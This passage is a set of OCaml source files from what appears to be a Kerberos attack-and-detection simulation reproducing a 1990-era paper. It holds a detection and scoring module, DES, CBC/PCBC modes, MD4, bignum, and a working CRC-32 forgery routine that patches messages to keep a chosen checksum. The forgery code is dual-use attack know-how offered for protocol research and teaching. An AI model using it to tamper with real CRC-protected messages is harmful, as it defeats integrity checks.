        raise_alert t ~time:ev.time ~rule:"checksum-anomaly" ~subject:("src:" ^ src)
          ~score:0.7
          ~evidence:(Printf.sprintf "%d checksum/integrity failures" s.cksum)
  | _ -> ())

let on_validated t (ev : Trace.event) =
  let p = t.pol in
  let src = attr_or "src" "?" ev.attrs in
  let lifetime =
    match float_of_string_opt (attr_or "lifetime" "0" ev.attrs) with
    | Some x -> x
    | None -> 0.0
  in
  let addr = attr_or "addr" "bound" ev.attrs in
  if armed t ev.time then
    if lifetime > p.max_lifetime then
      raise_alert t ~time:ev.time ~rule:"forged-ticket" ~subject:("src:" ^ src)
        ~score:1.0
        ~evidence:
          (Printf.sprintf "ticket lifetime %.0fs exceeds realm max %.0fs" lifetime
             p.max_lifetime)
    else if p.expect_addr && addr = "none" then
      raise_alert t ~time:ev.time ~rule:"forged-ticket" ~subject:("src:" ^ src)
        ~score:0.8 ~evidence:"address-free ticket in an address-bound realm"

let observe t (ev : Trace.event) =
  match ev.kind with
  | "auth.as_req" | "auth.tgs_req" | "auth.ap_req" | "ticket.validated"
  | "ticket.issued" ->
      if Float.is_nan t.t0 then t.t0 <- ev.time;
      t.observed <- t.observed + 1;
      (match ev.kind with
      | "auth.as_req" -> on_as_req t ev
      | "auth.tgs_req" | "auth.ap_req" -> on_followup t ev
      | "ticket.validated" -> on_validated t ev
      | _ -> t.tickets_issued <- t.tickets_issued + 1)
  | _ -> ()

let attach t c = Collector.set_sink c (Some (observe t))

(* --- scoring -------------------------------------------------------- *)

type label = { lb_class : string; lb_subject : string; lb_start : float }

type class_score = {
  cs_class : string;
  cs_attackers : int;
  cs_detected : int;
  cs_detection_rate : float;
  cs_benign_flagged : int;
  cs_false_positive_rate : float;
  cs_mean_ttd : float;
  cs_max_ttd : float;
}

type score = {
  sc_classes : class_score list;
  sc_benign : int;
  sc_benign_flagged : int;
  sc_false_positive_rate : float;
  sc_alerts : int;
}

let rules_for_class = function
  | "password_guess" -> [ "preauth-run"; "as-burst" ]
  | "ticket_harvest" -> [ "harvest"; "as-burst" ]
  | "replay_auth" -> [ "replay"; "addr-anomaly" ]
  | "forged_ticket" -> [ "forged-ticket"; "checksum-anomaly" ]
  | _ -> []

let score t ~labels ~benign =
  let classes =
    List.fold_left
      (fun acc lb -> if List.mem lb.lb_class acc then acc else acc @ [ lb.lb_class ])
      [] labels
  in
  let benign_n = List.length benign in
  let flagged_by subject rules = first_alert t ~subject ~rules in
  let class_scores =
    List.map
      (fun cls ->
        let rules = rules_for_class cls in
        let mine = List.filter (fun lb -> lb.lb_class = cls) labels in
        let detections =
          List.filter_map
            (fun lb ->
              match flagged_by lb.lb_subject rules with
              | Some a ->
                  let ttd = a.al_time -. lb.lb_start in
                  Some (if ttd < 0.0 then 0.0 else ttd)
              | None -> None)
            mine
        in
        let n = List.length mine and d = List.length detections in
        let fp =
          List.length
            (List.filter (fun s -> flagged_by s rules <> None) benign)
        in
        { cs_class = cls; cs_attackers = n; cs_detected = d;
          cs_detection_rate = (if n = 0 then 0.0 else float_of_int d /. float_of_int n);
          cs_benign_flagged = fp;
          cs_false_positive_rate =
            (if benign_n = 0 then 0.0 else float_of_int fp /. float_of_int benign_n);
          cs_mean_ttd =
            (if d = 0 then 0.0
             else List.fold_left ( +. ) 0.0 detections /. float_of_int d);
          cs_max_ttd = List.fold_left (fun m x -> if x > m then x else m) 0.0 detections
        })
      classes
  in
  let any_rules =
    [ "as-burst"; "preauth-run"; "harvest"; "replay"; "addr-anomaly";
      "forged-ticket"; "checksum-anomaly" ]
  in
  let benign_flagged =
    List.length (List.filter (fun s -> flagged_by s any_rules <> None) benign)
  in
  { sc_classes = class_scores; sc_benign = benign_n;
    sc_benign_flagged = benign_flagged;
    sc_false_positive_rate =
      (if benign_n = 0 then 0.0
       else float_of_int benign_flagged /. float_of_int benign_n);
    sc_alerts = t.n_alerts }

(* --- rendering ------------------------------------------------------ *)

let policy_to_json p =
  Json.Obj
    [ ("warmup", Json.Float p.warmup); ("epoch", Json.Float p.epoch);
      ("ewma_alpha", Json.Float p.ewma_alpha);
      ("burst_factor", Json.Float p.burst_factor);
      ("burst_floor", Json.Int p.burst_floor);
      ("preauth_run", Json.Int p.preauth_run);
      ("harvest_min_clients", Json.Int p.harvest_min_clients);
      ("harvest_max_followups", Json.Int p.harvest_max_followups);
      ("replay_min_hits", Json.Int p.replay_min_hits);
      ("checksum_min_hits", Json.Int p.checksum_min_hits);
      ("max_lifetime", Json.Float p.max_lifetime);
      ("expect_addr", Json.Bool p.expect_addr);
      ("score_threshold", Json.Float p.score_threshold) ]

let report t =
  let b = Buffer.create 512 in
  Printf.bprintf b "detection plane — %d events observed (%d tickets issued), %d alerts:\n"
    t.observed t.tickets_issued t.n_alerts;
  if t.n_alerts = 0 then Buffer.add_string b "  (no alerts)\n"
  else begin
    Printf.bprintf b "  %9s  %-16s %-22s %5s %5s  %s\n" "time" "rule" "subject"
      "score" "hits" "evidence";
    List.iter
      (fun a ->
        Printf.bprintf b "  %9.3f  %-16s %-22s %5.2f %5d  %s\n" a.al_time a.al_rule
          a.al_subject a.al_score a.al_count a.al_evidence)
      (alerts t)
  end;
  Buffer.contents b

let alerts_to_json alerts =
  Json.List
    (List.map
       (fun a ->
         Json.Obj
           [ ("time", Json.Float a.al_time); ("rule", Json.Str a.al_rule);
             ("subject", Json.Str a.al_subject); ("score", Json.Float a.al_score);
             ("count", Json.Int a.al_count); ("evidence", Json.Str a.al_evidence) ])
       alerts)

let score_to_json s =
  Json.Obj
    [ ( "classes",
        Json.Obj
          (List.map
             (fun c ->
               ( c.cs_class,
                 Json.Obj
                   [ ("attackers", Json.Int c.cs_attackers);
                     ("detected", Json.Int c.cs_detected);
                     ("detection_rate", Json.Float c.cs_detection_rate);
                     ("benign_flagged", Json.Int c.cs_benign_flagged);
                     ("false_positive_rate", Json.Float c.cs_false_positive_rate);
                     ( "mean_ttd",
                       if c.cs_detected = 0 then Json.Null
                       else Json.Float c.cs_mean_ttd );
                     ( "max_ttd",
                       if c.cs_detected = 0 then Json.Null
                       else Json.Float c.cs_max_ttd ) ] ))
             s.sc_classes) );
      ("benign_subjects", Json.Int s.sc_benign);
      ("benign_flagged", Json.Int s.sc_benign_flagged);
      ("false_positive_rate", Json.Float s.sc_false_positive_rate);
      ("alerts", Json.Int s.sc_alerts) ]
