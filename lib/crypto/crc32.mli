(** CRC-32 (the IEEE 802.3 polynomial), the "weak checksum" of the Version 5
    Draft 3 specification — and the forgery routine that makes the paper's
    cut-and-paste attacks concrete.

    CRC-32 is linear over GF(2): anyone can compute a 4-byte patch that
    steers the checksum of a chosen message to any target value. The paper's
    attacker fills the "additional authorization data" field of a modified
    TGS request "with whatever information is needed to make the CRC match
    the original version" — [forge] is exactly that computation. *)

type state
(** Running CRC register. *)

val init : state
val update : state -> bytes -> state
val digest : state -> int
(** Final 32-bit checksum value. *)

val bytes_digest : bytes -> int
(** One-shot checksum. *)

val update_sub : state -> bytes -> pos:int -> len:int -> state
val bytes_digest_sub : bytes -> pos:int -> len:int -> int
(** Subrange forms: checksum [len] bytes of [b] starting at [pos] without
    materializing the slice. *)

val digest_to_bytes : int -> bytes
(** Big-endian 4-byte rendering, as carried in protocol messages. *)

val forge : prefix:bytes -> target:int -> bytes
(** [forge ~prefix ~target] computes 4 bytes [p] such that
    [bytes_digest (prefix ^ p) = target]. *)

val forge_state : from_state:state -> to_state:state -> bytes
(** [forge_state ~from_state ~to_state] computes 4 bytes that advance the
    CRC register from one state to another. This generalizes [forge] to
    forgeries in the {e middle} of a message: to replace a segment while
    keeping the overall CRC, steer the register to the state the original
    segment left it in, and the untouched suffix does the rest. *)
