(** The Data Encryption Standard (FIPS 46), the cipher Kerberos V4 and the
    V5 drafts are built on.

    Blocks and keys are 8 bytes. The hot path is table-driven — the S-box
    and P permutations are fused into eight precomputed SP tables, the E
    expansion is a shift/mask window, and IP/FP are five-step bit-swap
    networks — and is validated in the test suite against the classic NBS
    known-answer vectors and against the bit-by-bit {!Reference}
    implementation. *)

type key
(** A scheduled key (the 16 48-bit subkeys, in both encrypt and decrypt
    order). *)

val block_size : int
(** 8. *)

val schedule : bytes -> key
(** [schedule k] expands an 8-byte key. Parity bits (the low bit of each
    byte) are ignored, as in the standard.
    @raise Invalid_argument if [k] is not 8 bytes. *)

val key_bytes : key -> bytes
(** The original 8-byte key material (with its parity bits untouched). *)

val schedule_cached : bytes -> key
(** [schedule_cached k] is [schedule (fix_parity k)], memoized on the raw
    key bytes. Long-lived Kerberos keys are sealed under thousands of
    times, and the schedule dominates short-message sealing cost, so the
    hot paths route through this. Semantically identical to rescheduling
    every time (the equivalence tests pin this); the memo table is bounded
    and dropped wholesale when full. *)

val set_schedule_cache : bool -> unit
(** Enable/disable the [schedule_cached] memo table (clears it when turning
    off). On by default; the off position exists for equivalence tests and
    bench ablations. *)

val schedule_cache_enabled : unit -> bool

val schedules_performed : unit -> int
(** Process-wide count of key-schedule computations actually performed
    (cache hits don't count). Lets tests assert a session schedules its key
    exactly once. *)

val blocks_performed : unit -> int
(** Process-wide count of single-block DES operations (every mode bottoms
    out here). The load harness uses it to apportion wall time between
    irreducible cipher work and everything else. *)

val encrypt_block : key -> bytes -> bytes
(** [encrypt_block k b] enciphers one 8-byte block. *)

val decrypt_block : key -> bytes -> bytes
(** [decrypt_block k b] deciphers one 8-byte block. *)

val encrypt_block_i64 : key -> int64 -> int64
(** [encrypt_block_i64 k b] enciphers one block held as a big-endian int64
    (bit 63 is the block's first bit), with no [bytes] round-trip. *)

val decrypt_block_i64 : key -> int64 -> int64

type halves = { mutable hi : int; mutable lo : int }
(** One block as two 32-bit words ([hi] first). A scratch cell the block
    modes allocate once per call and reuse for every block. *)

val encrypt_halves : key -> halves -> unit
(** [encrypt_halves k st] enciphers the block in [st] in place. Allocates
    nothing; this is the hot entry point the streaming modes are built on. *)

val decrypt_halves : key -> halves -> unit

module Reference : sig
  val encrypt_block : key -> bytes -> bytes
  val decrypt_block : key -> bytes -> bytes
end
(** The original permute-per-round implementation, kept as the oracle that
    pins the table-driven path to the old semantics in the property tests.
    Roughly 30x slower; never used outside the test suite. *)

val fix_parity : bytes -> bytes
(** [fix_parity k] returns a copy with each byte's low bit set to give odd
    parity, the DES key convention. *)

val is_weak : bytes -> bool
(** True for the four weak and twelve semi-weak DES keys (after parity
    fixing). The simulated KDC rejects these when generating session keys. *)

val random_key : Util.Rng.t -> bytes
(** A fresh parity-fixed, non-weak key. *)
