(** Block-cipher modes of operation over DES.

    Three modes matter to the paper:
    - {b ECB} for single-block values;
    - {b CBC} (FIPS 81), used by the Version 5 drafts — and whose
      "prefixes of encryptions are encryptions of prefixes" property under a
      fixed IV enables the paper's inter-session chosen-plaintext attack;
    - {b PCBC}, the nonstandard propagating mode used by Kerberos Version 4,
      whose poor error-propagation (swapping two interior ciphertext blocks
      garbles only those blocks) the paper also discusses.

    All functions require the input length to be a multiple of 8; use [pad]
    / [unpad] for arbitrary-length payloads.

    Each mode comes in two forms: an allocating one returning fresh bytes,
    and an [*_into] primitive that streams [src] to [dst] with a single
    reusable scratch block and no per-block allocation. [dst] may be [src]
    (in-place transformation); the sealing layers exploit this to encrypt
    freshly padded buffers without another copy. *)

val padded_length : int -> int
(** [padded_length n] is the length [pad] would produce for an [n]-byte
    input: the next multiple of the block size strictly greater than [n]. *)

val create_padded : int -> bytes
(** [create_padded n] allocates a [padded_length n] buffer with the pad
    bytes already written at positions [n..]; the caller fills [0..n-1]
    with the payload and encrypts in place. [pad b] is
    [create_padded (length b)] with [b] blitted in — the split form lets
    sealing layers build a message in its final buffer with no
    intermediate copy. *)

val pad : bytes -> bytes
(** [pad b] appends 1–8 bytes of padding, each holding the pad length, so
    the result is a non-empty multiple of the block size (PKCS#5-style). *)

val unpad : bytes -> bytes option
(** [unpad b] strips padding added by [pad]; [None] if malformed. *)

val unpad_length : bytes -> int option
(** [unpad_length b] is the payload length [unpad] would return, without
    allocating the stripped copy — openers that go on to parse fields in
    place use this. *)

val ecb_encrypt : Des.key -> bytes -> bytes
val ecb_decrypt : Des.key -> bytes -> bytes

val cbc_encrypt : Des.key -> iv:bytes -> bytes -> bytes
val cbc_decrypt : Des.key -> iv:bytes -> bytes -> bytes

val pcbc_encrypt : Des.key -> iv:bytes -> bytes -> bytes
val pcbc_decrypt : Des.key -> iv:bytes -> bytes -> bytes

val ecb_encrypt_into : Des.key -> src:bytes -> dst:bytes -> unit
val ecb_decrypt_into : Des.key -> src:bytes -> dst:bytes -> unit

val cbc_encrypt_into : Des.key -> iv:bytes -> src:bytes -> dst:bytes -> unit
val cbc_decrypt_into : Des.key -> iv:bytes -> src:bytes -> dst:bytes -> unit

val pcbc_encrypt_into : Des.key -> iv:bytes -> src:bytes -> dst:bytes -> unit
val pcbc_decrypt_into : Des.key -> iv:bytes -> src:bytes -> dst:bytes -> unit
(** The streaming primitives. [src] and [dst] must have equal lengths, a
    multiple of the block size; [dst] may alias [src].
    @raise Invalid_argument on length mismatch or a bad IV. *)

val zero_iv : bytes
(** The all-zero IV — "assume the initial vector is fixed and public", as the
    paper's hint to the reader puts it. *)
