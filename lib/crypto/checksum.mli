(** Checksum dispatch, mirroring the Draft 3 checksum registry.

    The crucial classification, which Draft 3 omitted and the paper supplies:
    whether a checksum is {e collision-proof} — "whether or not an attacker
    can construct a new message with the same checksum". CRC-32 is not;
    MD4 is (by 1990 assumption). Encrypting a non-collision-proof checksum
    over public data protects nothing, which [forge_to_match] demonstrates. *)

type kind = Crc32 | Md4 | Md4_des

val show : kind -> string
val pp : Format.formatter -> kind -> unit
val equal : kind -> kind -> bool

val collision_proof : kind -> bool
(** [false] only for {!Crc32}. *)

val size : kind -> int

val compute : kind -> key:bytes -> bytes -> bytes
(** [compute kind ~key data]. The [key] is used only by {!Md4_des}. *)

val compute_sub : kind -> key:bytes -> bytes -> pos:int -> len:int -> bytes
(** Checksum a subrange of [data] without materializing the slice — the
    sealing layers checksum the plaintext region of the final padded
    buffer in place. *)

val verify : kind -> key:bytes -> bytes -> expect:bytes -> bool

val forge_to_match : kind -> original:bytes -> tampered_prefix:bytes -> bytes option
(** [forge_to_match kind ~original ~tampered_prefix] attempts to produce a
    4-byte filler such that [tampered_prefix ^ filler] has the same [kind]
    checksum as [original] — the attacker's move in the cut-and-paste
    attacks. [Some _] exactly when the checksum is not collision-proof. *)
