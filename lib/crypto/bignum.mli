(** Arbitrary-precision natural numbers, built from scratch (the sealed
    environment has no zarith) to support the paper's proposed exponential
    key exchange and the LaMacchia–Odlyzko small-modulus discrete-log
    experiments.

    Values are immutable. Only naturals are provided; protocol code never
    needs negatives. *)

type t

val zero : t
val one : t
val two : t

val of_int : int -> t
(** @raise Invalid_argument on negatives. *)

val to_int_opt : t -> int option
(** [None] if the value exceeds [max_int]. *)

val of_hex : string -> t
val to_hex : t -> string

val of_bytes_be : bytes -> t
val to_bytes_be : ?size:int -> t -> bytes
(** [to_bytes_be ~size n] left-pads with zeros to [size] bytes.
    @raise Invalid_argument if [n] does not fit. *)

val compare : t -> t -> int
val equal : t -> t -> bool
val is_zero : t -> bool

val add : t -> t -> t
val sub : t -> t -> t
(** @raise Invalid_argument if the result would be negative. *)

val mul : t -> t -> t
val divmod : t -> t -> t * t
(** @raise Division_by_zero. *)

val rem : t -> t -> t
val shift_left : t -> int -> t
val shift_right : t -> int -> t
val bit : t -> int -> bool
(** [bit n i] is bit [i] (little-endian). *)

val num_bits : t -> int
(** Position of the highest set bit plus one; 0 for zero. *)

val mod_pow : base:t -> exp:t -> modulus:t -> t
(** Sliding-window (4-bit) modular exponentiation. *)

val mod_mul : t -> t -> modulus:t -> t

val gcd : t -> t -> t

val random : Util.Rng.t -> bits:int -> t
(** Uniform in [0, 2^bits). *)

val random_below : Util.Rng.t -> t -> t
(** Uniform in [0, bound); bound must be positive. *)

val is_probable_prime : ?rounds:int -> Util.Rng.t -> t -> bool
(** Miller–Rabin. *)

val pp : Format.formatter -> t -> unit
