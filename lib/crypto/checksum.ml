type kind = Crc32 | Md4 | Md4_des

let show = function Crc32 -> "crc32" | Md4 -> "md4" | Md4_des -> "md4-des"
let pp ppf k = Format.pp_print_string ppf (show k)
let equal (a : kind) b = a = b

let collision_proof = function Crc32 -> false | Md4 | Md4_des -> true

let size = function Crc32 -> 4 | Md4 -> 16 | Md4_des -> 16

let compute_sub kind ~key data ~pos ~len =
  match kind with
  | Crc32 -> Crc32.digest_to_bytes (Crc32.bytes_digest_sub data ~pos ~len)
  | Md4 -> Md4.digest_sub data ~pos ~len
  | Md4_des -> Md4.hmac_des_sub ~key data ~pos ~len

let compute kind ~key data = compute_sub kind ~key data ~pos:0 ~len:(Bytes.length data)

let verify kind ~key data ~expect =
  Util.Bytesutil.equal (compute kind ~key data) expect

let forge_to_match kind ~original ~tampered_prefix =
  match kind with
  | Md4 | Md4_des -> None
  | Crc32 ->
      let target = Crc32.bytes_digest original in
      Some (Crc32.forge ~prefix:tampered_prefix ~target)
