(** MD4 (RFC 1320) — the "collision-proof" checksum of the Version 5 drafts
    (believed collision-resistant in 1990; we reproduce the 1990-era
    assumption, which is all the paper's argument needs: the attacker cannot
    steer MD4 the way CRC-32 linearity lets them steer CRC-32). *)

val digest_size : int
(** 16. *)

val digest : bytes -> bytes
(** [digest b] is the 16-byte MD4 hash of [b]. *)

val digest_sub : bytes -> pos:int -> len:int -> bytes
(** Hash a subrange without materializing the slice. *)

val hex_digest : bytes -> string

val hmac_des_sub : key:bytes -> bytes -> pos:int -> len:int -> bytes
(** Subrange form of {!hmac_des}. *)

val hmac_des : key:bytes -> bytes -> bytes
(** The drafts' "MD4 encrypted with DES" checksum: the MD4 digest enciphered
    under the session key (CBC, zero IV). Still forgeable when the protected
    data is public and the checksum is CRC — but with MD4 inside it is the
    strong variant. *)
