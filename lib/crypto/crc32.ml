(* Reflected CRC-32, polynomial 0xEDB88320, init/xorout 0xFFFFFFFF. *)

let table =
  let t = Array.make 256 0 in
  for i = 0 to 255 do
    let c = ref i in
    for _ = 0 to 7 do
      c := if !c land 1 = 1 then 0xEDB88320 lxor (!c lsr 1) else !c lsr 1
    done;
    t.(i) <- !c
  done;
  t

(* The 256 table entries have pairwise-distinct high bytes, which is what
   makes the backward pass of [forge] well-defined. *)
let reverse_index =
  let r = Array.make 256 0 in
  Array.iteri (fun i v -> r.(v lsr 24) <- i) table;
  r

type state = int

let init = 0xFFFFFFFF

let update_sub st b ~pos ~len =
  let s = ref st in
  for i = pos to pos + len - 1 do
    s := (!s lsr 8) lxor table.((!s lxor Char.code (Bytes.get b i)) land 0xff)
  done;
  !s

let update st b = update_sub st b ~pos:0 ~len:(Bytes.length b)

let digest st = st lxor 0xFFFFFFFF

let bytes_digest b = digest (update init b)
let bytes_digest_sub b ~pos ~len = digest (update_sub init b ~pos ~len)

let digest_to_bytes d =
  let out = Bytes.create 4 in
  Util.Bytesutil.put_u32_be out 0 d;
  out

let forge_state ~from_state ~to_state =
  (* Backward pass: recover the table indices a 4-byte patch must hit so the
     register lands on [to_state]. Only the top byte matters at each step,
     so zero-filled shifts are sound (see Stigge et al., "Reversing CRC"). *)
  let indices = Array.make 4 0 in
  let v = ref to_state in
  for k = 3 downto 0 do
    let i = reverse_index.(!v lsr 24) in
    indices.(k) <- i;
    v := ((!v lxor table.(i)) lsl 8) land 0xFFFFFFFF
  done;
  (* Forward pass: choose each byte so the register xors to the wanted
     table index. *)
  let s = ref from_state in
  let patch = Bytes.create 4 in
  for k = 0 to 3 do
    let b = (!s lxor indices.(k)) land 0xff in
    Bytes.set patch k (Char.chr b);
    s := (!s lsr 8) lxor table.(indices.(k))
  done;
  patch

let forge ~prefix ~target =
  forge_state ~from_state:(update init prefix) ~to_state:(target lxor 0xFFFFFFFF)
