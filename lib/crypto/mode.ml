(* All three modes stream over the input with one reusable scratch cell
   ([Des.halves]) and write ciphertext straight into the destination buffer:
   no per-block [Bytes.sub] or xor temporaries. The [*_into] variants are
   the primitive; the allocating functions wrap them, and sealing layers
   (Seal, Krb_priv) call them in place on freshly padded buffers. *)

let block = Des.block_size

let padded_length n = n + (block - (n mod block))

(* The allocation-free sealing layers assemble messages directly in their
   final padded buffer: [create_padded n] returns a block-multiple buffer
   whose last [padlen] bytes already hold the padding for an [n]-byte
   payload; the caller writes the payload into [0..n-1] and encrypts in
   place. Equivalent to [pad] without the intermediate plaintext copy. *)
let create_padded n =
  let padlen = block - (n mod block) in
  let out = Bytes.create (n + padlen) in
  Bytes.fill out n padlen (Char.chr padlen);
  out

let pad b =
  let n = Bytes.length b in
  let padlen = block - (n mod block) in
  let out = Bytes.create (n + padlen) in
  Bytes.blit b 0 out 0 n;
  Bytes.fill out n padlen (Char.chr padlen);
  out

let unpad_length b =
  let n = Bytes.length b in
  if n = 0 || n mod block <> 0 then None
  else
    let padlen = Char.code (Bytes.get b (n - 1)) in
    if padlen < 1 || padlen > block || padlen > n then None
    else
      let ok = ref true in
      for i = n - padlen to n - 1 do
        if Char.code (Bytes.get b i) <> padlen then ok := false
      done;
      if !ok then Some (n - padlen) else None

let unpad b =
  match unpad_length b with Some l -> Some (Bytes.sub b 0 l) | None -> None

let check_into name ~src ~dst =
  if Bytes.length src mod block <> 0 then
    invalid_arg (name ^ ": input not a multiple of the block size");
  if Bytes.length dst <> Bytes.length src then
    invalid_arg (name ^ ": src and dst lengths differ")

let check_iv iv =
  if Bytes.length iv <> block then invalid_arg "Mode: IV must be 8 bytes"

(* 32-bit big-endian words via the uint16 accessors, which traffic in
   immediate ints (get_int32_be would box an Int32 per read). *)
let get32 b pos = (Bytes.get_uint16_be b pos lsl 16) lor Bytes.get_uint16_be b (pos + 2)

let set32 b pos v =
  Bytes.set_uint16_be b pos (v lsr 16);
  Bytes.set_uint16_be b (pos + 2) (v land 0xffff)

let ecb_encrypt_into key ~src ~dst =
  check_into "ecb_encrypt" ~src ~dst;
  let st = { Des.hi = 0; lo = 0 } in
  let n = Bytes.length src in
  let pos = ref 0 in
  while !pos < n do
    st.Des.hi <- get32 src !pos;
    st.Des.lo <- get32 src (!pos + 4);
    Des.encrypt_halves key st;
    set32 dst !pos st.Des.hi;
    set32 dst (!pos + 4) st.Des.lo;
    pos := !pos + block
  done

let ecb_decrypt_into key ~src ~dst =
  check_into "ecb_decrypt" ~src ~dst;
  let st = { Des.hi = 0; lo = 0 } in
  let n = Bytes.length src in
  let pos = ref 0 in
  while !pos < n do
    st.Des.hi <- get32 src !pos;
    st.Des.lo <- get32 src (!pos + 4);
    Des.decrypt_halves key st;
    set32 dst !pos st.Des.hi;
    set32 dst (!pos + 4) st.Des.lo;
    pos := !pos + block
  done

let cbc_encrypt_into key ~iv ~src ~dst =
  check_into "cbc_encrypt" ~src ~dst;
  check_iv iv;
  let st = { Des.hi = 0; lo = 0 } in
  let n = Bytes.length src in
  let rec go pos chi clo =
    if pos < n then begin
      st.Des.hi <- get32 src pos lxor chi;
      st.Des.lo <- get32 src (pos + 4) lxor clo;
      Des.encrypt_halves key st;
      set32 dst pos st.Des.hi;
      set32 dst (pos + 4) st.Des.lo;
      go (pos + block) st.Des.hi st.Des.lo
    end
  in
  go 0 (get32 iv 0) (get32 iv 4)

let cbc_decrypt_into key ~iv ~src ~dst =
  check_into "cbc_decrypt" ~src ~dst;
  check_iv iv;
  let st = { Des.hi = 0; lo = 0 } in
  let n = Bytes.length src in
  let rec go pos chi clo =
    if pos < n then begin
      (* Read the ciphertext block before writing: dst may alias src. *)
      let c0 = get32 src pos and c1 = get32 src (pos + 4) in
      st.Des.hi <- c0;
      st.Des.lo <- c1;
      Des.decrypt_halves key st;
      set32 dst pos (st.Des.hi lxor chi);
      set32 dst (pos + 4) (st.Des.lo lxor clo);
      go (pos + block) c0 c1
    end
  in
  go 0 (get32 iv 0) (get32 iv 4)

(* PCBC: C_i = E(P_i xor P_{i-1} xor C_{i-1}), seeding P_0 xor C_0 with the
   IV. Kerberos V4's "propagating" mode. *)
let pcbc_encrypt_into key ~iv ~src ~dst =
  check_into "pcbc_encrypt" ~src ~dst;
  check_iv iv;
  let st = { Des.hi = 0; lo = 0 } in
  let n = Bytes.length src in
  let rec go pos fhi flo =
    if pos < n then begin
      let p0 = get32 src pos and p1 = get32 src (pos + 4) in
      st.Des.hi <- p0 lxor fhi;
      st.Des.lo <- p1 lxor flo;
      Des.encrypt_halves key st;
      set32 dst pos st.Des.hi;
      set32 dst (pos + 4) st.Des.lo;
      go (pos + block) (p0 lxor st.Des.hi) (p1 lxor st.Des.lo)
    end
  in
  go 0 (get32 iv 0) (get32 iv 4)

let pcbc_decrypt_into key ~iv ~src ~dst =
  check_into "pcbc_decrypt" ~src ~dst;
  check_iv iv;
  let st = { Des.hi = 0; lo = 0 } in
  let n = Bytes.length src in
  let rec go pos fhi flo =
    if pos < n then begin
      let c0 = get32 src pos and c1 = get32 src (pos + 4) in
      st.Des.hi <- c0;
      st.Des.lo <- c1;
      Des.decrypt_halves key st;
      let p0 = st.Des.hi lxor fhi and p1 = st.Des.lo lxor flo in
      set32 dst pos p0;
      set32 dst (pos + 4) p1;
      go (pos + block) (p0 lxor c0) (p1 lxor c1)
    end
  in
  go 0 (get32 iv 0) (get32 iv 4)

let fresh f key b =
  let out = Bytes.create (Bytes.length b) in
  f key ~src:b ~dst:out;
  out

let ecb_encrypt key b = fresh ecb_encrypt_into key b
let ecb_decrypt key b = fresh ecb_decrypt_into key b

let fresh_iv f key ~iv b =
  let out = Bytes.create (Bytes.length b) in
  f key ~iv ~src:b ~dst:out;
  out

let cbc_encrypt key ~iv b = fresh_iv cbc_encrypt_into key ~iv b
let cbc_decrypt key ~iv b = fresh_iv cbc_decrypt_into key ~iv b
let pcbc_encrypt key ~iv b = fresh_iv pcbc_encrypt_into key ~iv b
let pcbc_decrypt key ~iv b = fresh_iv pcbc_decrypt_into key ~iv b

let zero_iv = Bytes.make block '\000'
