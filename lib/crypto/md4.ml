(* RFC 1320. 32-bit arithmetic is done on native ints masked to 32 bits. *)

let digest_size = 16

let mask = 0xFFFFFFFF

let ( +% ) a b = (a + b) land mask

let rotl x n = ((x lsl n) lor (x lsr (32 - n))) land mask

let f x y z = (x land y) lor (lnot x land z land mask)
let g x y z = (x land y) lor (x land z) lor (y land z)
let h x y z = x lxor y lxor z

let pad_message b pos len =
  let bitlen = Int64.of_int (len * 8) in
  let padlen =
    let r = (len + 1) mod 64 in
    if r <= 56 then 56 - r + 1 else 64 - r + 56 + 1
  in
  let out = Bytes.create (len + padlen + 8) in
  Bytes.blit b pos out 0 len;
  Bytes.set out len '\x80';
  Bytes.fill out (len + 1) (padlen - 1) '\000';
  Bytes.set_int64_le out (len + padlen) bitlen;
  out

let digest_sub b ~pos ~len =
  let msg = pad_message b pos len in
  let a = ref 0x67452301 and b' = ref 0xefcdab89
  and c = ref 0x98badcfe and d = ref 0x10325476 in
  let x = Array.make 16 0 in
  let nblocks = Bytes.length msg / 64 in
  for blk = 0 to nblocks - 1 do
    for i = 0 to 15 do
      x.(i) <- Int32.to_int (Bytes.get_int32_le msg ((blk * 64) + (i * 4))) land mask
    done;
    let aa = !a and bb = !b' and cc = !c and dd = !d in
    let round1 a b c d k s = rotl (a +% f b c d +% x.(k)) s in
    let round2 a b c d k s = rotl (a +% g b c d +% x.(k) +% 0x5a827999) s in
    let round3 a b c d k s = rotl (a +% h b c d +% x.(k) +% 0x6ed9eba1) s in
    (* Round 1 *)
    List.iter
      (fun k ->
        a := round1 !a !b' !c !d k 3;
        d := round1 !d !a !b' !c (k + 1) 7;
        c := round1 !c !d !a !b' (k + 2) 11;
        b' := round1 !b' !c !d !a (k + 3) 19)
      [ 0; 4; 8; 12 ];
    (* Round 2 *)
    List.iter
      (fun k ->
        a := round2 !a !b' !c !d k 3;
        d := round2 !d !a !b' !c (k + 4) 5;
        c := round2 !c !d !a !b' (k + 8) 9;
        b' := round2 !b' !c !d !a (k + 12) 13)
      [ 0; 1; 2; 3 ];
    (* Round 3 *)
    List.iter
      (fun k ->
        a := round3 !a !b' !c !d k 3;
        d := round3 !d !a !b' !c (k + 8) 9;
        c := round3 !c !d !a !b' (k + 4) 11;
        b' := round3 !b' !c !d !a (k + 12) 15)
      [ 0; 2; 1; 3 ];
    a := !a +% aa;
    b' := !b' +% bb;
    c := !c +% cc;
    d := !d +% dd
  done;
  let out = Bytes.create 16 in
  List.iteri
    (fun i v -> Bytes.set_int32_le out (i * 4) (Int32.of_int v))
    [ !a; !b'; !c; !d ];
  out

let digest b = digest_sub b ~pos:0 ~len:(Bytes.length b)

let hex_digest b = Util.Bytesutil.to_hex (digest b)

let hmac_des_sub ~key b ~pos ~len =
  let k = Des.schedule_cached key in
  Mode.cbc_encrypt k ~iv:Mode.zero_iv (digest_sub b ~pos ~len)

let hmac_des ~key b = hmac_des_sub ~key b ~pos:0 ~len:(Bytes.length b)
