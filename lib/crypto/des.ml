(* Tables are copied from FIPS 46-3; bit positions are 1-based from the most
   significant bit, as in the standard.

   The hot path is table-driven: the per-round S-box and P permutations are
   fused into eight 64-entry SP tables of 32-bit words, the E expansion is a
   shift/mask window over a 34-bit rotation of R, and IP/FP are the classic
   five-step Hoey/Kwan bit-swap networks. The original permute-per-round
   implementation is kept in [Reference] as the oracle the fast path is
   property-tested against. *)

let initial_permutation =
  [| 58; 50; 42; 34; 26; 18; 10; 2;
     60; 52; 44; 36; 28; 20; 12; 4;
     62; 54; 46; 38; 30; 22; 14; 6;
     64; 56; 48; 40; 32; 24; 16; 8;
     57; 49; 41; 33; 25; 17;  9; 1;
     59; 51; 43; 35; 27; 19; 11; 3;
     61; 53; 45; 37; 29; 21; 13; 5;
     63; 55; 47; 39; 31; 23; 15; 7 |]

let final_permutation =
